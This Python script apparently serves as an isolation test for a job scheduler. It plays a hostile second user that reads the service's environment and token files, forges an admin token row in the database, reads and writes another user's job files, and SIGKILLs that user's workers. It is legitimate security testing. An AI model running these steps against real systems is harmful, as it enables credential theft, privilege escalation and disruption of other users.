"""The job a hostile second user submits (issue 23, finding 1): from inside its own job it tries to become admin
or reach another user's job, and prints one JSON line saying what worked. Standard library only (it must run
under any interpreter a job may get).

Each attempt is reported as {"ok": true/false, "detail": ...}; "ok" means the attack SUCCEEDED.

    python isolation_attacks.py --service-pid P --workdir W --db FILE --api URL --job A_ID --gen G
                                --pids PID,PID --canary TEXT
"""

from __future__ import annotations

import argparse
import hashlib
import json
import os
import secrets
import signal
import sqlite3
import time
import urllib.request
from collections.abc import Callable
from pathlib import Path
from typing import Any


def _api_admin(api: str, token: str) -> str:
    """What the API says about `token`: 'admin', 'user', or why it was refused."""
    req = urllib.request.Request(f"{api}/v1/status", headers={"Authorization": f"Bearer {token}"})
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            return "admin" if json.loads(r.read()).get("admin") else "user"
    except Exception as e:  # refused (401) or unreachable: the token is worth nothing
        return f"refused ({type(e).__name__}: {str(e)[:80]})"


def _read(path: str | Path, limit: int = 1 << 16) -> bytes:
    with open(path, "rb") as f:
        return f.read(limit)


def service_environ(a: argparse.Namespace) -> dict[str, Any]:
    env = _read(f"/proc/{a.service_pid}/environ")
    found = [v.split(b"=", 1)[0].decode() for v in env.split(b"\0") if v.startswith((b"ELASTISCHED_TOKEN=",
                                                                                      b"ELASTISCHED_DB="))]
    return {"ok": bool(found), "detail": f"readable; secrets in it: {found or 'none'}"}


def token_file(a: argparse.Namespace) -> dict[str, Any]:
    tok = _read(Path(a.workdir) / "token").decode().strip()
    return {"ok": bool(tok), "detail": f"read {len(tok)} characters; the API calls it: {_api_admin(a.api, tok)}"}


def db_read(a: argparse.Namespace) -> dict[str, Any]:
    with sqlite3.connect(f"file:{a.db}?mode=ro", uri=True, timeout=5) as c:
        n = c.execute("SELECT count(*) FROM tokens").fetchone()[0]
        jobs = c.execute("SELECT count(*) FROM jobs").fetchone()[0]
    return {"ok": True, "detail": f"read {n} token rows and {jobs} jobs"}


def db_write(a: argparse.Namespace) -> dict[str, Any]:
    tid, secret, salt = secrets.token_hex(6), secrets.token_urlsafe(32), secrets.token_hex(16)
    digest = hashlib.sha256(bytes.fromhex(salt) + secret.encode()).hexdigest()
    with sqlite3.connect(f"file:{a.db}?mode=rw", uri=True, timeout=5) as c:
        c.execute("INSERT INTO tokens (id, user, admin, salt, hash, created_at) VALUES (?, 'mallory', 1, ?, ?, ?)",
                  (tid, salt, digest, time.time()))
    verdict = _api_admin(a.api, f"est_{tid}_{secret}")
    return {"ok": verdict == "admin", "detail": f"inserted an admin token row; the API calls it: {verdict}"}


def workdir_list(a: argparse.Namespace) -> dict[str, Any]:
    return {"ok": True, "detail": f"listed {sorted(os.listdir(a.workdir))[:8]}"}


def a_logs(a: argparse.Namespace) -> dict[str, Any]:
    data = _read(Path(a.workdir) / "jobs" / a.job / "logs" / f"g{a.gen}-r0.log")
    return {"ok": bool(data), "detail": f"read {len(data)} bytes of its log"}


def a_arguments(a: argparse.Namespace) -> dict[str, Any]:
    seen = []
    for pid in _tree(a.pids):
        try:
            cmd = _read(f"/proc/{pid}/cmdline")
        except OSError:
            continue
        seen.append(pid)
        if a.canary.encode() in cmd:
            return {"ok": True, "detail": f"its secret argument is on the command line of pid {pid}"}
    argv = Path(a.workdir) / "jobs" / a.job / f"g{a.gen}.argv"
    if argv.exists() and a.canary.encode() in _read(argv):
        return {"ok": True, "detail": f"its secret argument is in {argv}"}
    return {"ok": False, "detail": f"command lines of pids {seen} read; no secret argument in them"}


def a_environ(a: argparse.Namespace) -> dict[str, Any]:
    env = _read(f"/proc/{_tree(a.pids)[-1]}/environ")
    return {"ok": bool(env), "detail": f"read {len(env)} bytes of its worker's environment"}


def a_checkpoint_read(a: argparse.Namespace) -> dict[str, Any]:
    data = _read(Path(a.workdir) / "jobs" / a.job / "ckpt" / "progress.json")
    return {"ok": bool(data), "detail": f"read its checkpoint: {data[:60]!r}"}


def a_checkpoint_write(a: argparse.Namespace) -> dict[str, Any]:
    (Path(a.workdir) / "jobs" / a.job / "ckpt" / "planted.txt").write_text("bob was here")
    return {"ok": True, "detail": "wrote a file into its checkpoint directory"}


def service_signal(a: argparse.Namespace) -> dict[str, Any]:
    os.kill(a.service_pid, 0)  # the permission check alone: a success means SIGKILL would work too
    return {"ok": True, "detail": "may signal the service"}


def a_signal(a: argparse.Namespace) -> dict[str, Any]:
    killed = []
    for pid in a.pids:
        os.kill(pid, signal.SIGKILL)
        killed.append(pid)
    return {"ok": bool(killed), "detail": f"SIGKILLed its workers {killed}"}


def _tree(pids: list[int]) -> list[int]:
    """The given PIDs and their children (a rank wrapper's worker)."""
    out = list(pids)
    for d in os.listdir("/proc"):
        if d.isdigit():
            try:
                stat = _read(f"/proc/{d}/stat").decode()
            except OSError:
                continue
            if int(stat[stat.rindex(")") + 2:].split()[1]) in pids:
                out.append(int(d))
    return out


ATTACKS: list[tuple[str, Callable[[argparse.Namespace], dict[str, Any]]]] = [
    ("service_environ", service_environ), ("token_file", token_file), ("db_read", db_read), ("db_write", db_write),
    ("workdir_list", workdir_list), ("a_logs", a_logs), ("a_arguments", a_arguments), ("a_environ", a_environ),
    ("a_checkpoint_read", a_checkpoint_read), ("a_checkpoint_write", a_checkpoint_write),
    ("service_signal", service_signal), ("a_signal", a_signal)]


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--service-pid", type=int, required=True)
    ap.add_argument("--workdir", required=True)
    ap.add_argument("--db", required=True)
    ap.add_argument("--api", required=True)
    ap.add_argument("--job", required=True)
    ap.add_argument("--gen", type=int, default=1)
    ap.add_argument("--pids", type=lambda s: [int(x) for x in s.split(",")], required=True)
    ap.add_argument("--canary", required=True)
    a = ap.parse_args()
    results: dict[str, Any] = {}
    for name, attack in ATTACKS:
        try:
            results[name] = attack(a)
        except Exception as e:  # the attack failed: say how (EACCES, EPERM, ...)
            results[name] = {"ok": False, "detail": f"{type(e).__name__}: {e}"[:300]}
    whoami = {"uid": os.getuid(), "gid": os.getgid(), "groups": os.getgroups(), "env": sorted(os.environ)}
    print(json.dumps({"attacks": results, "whoami": whoami}), flush=True)


if __name__ == "__main__":
    main()
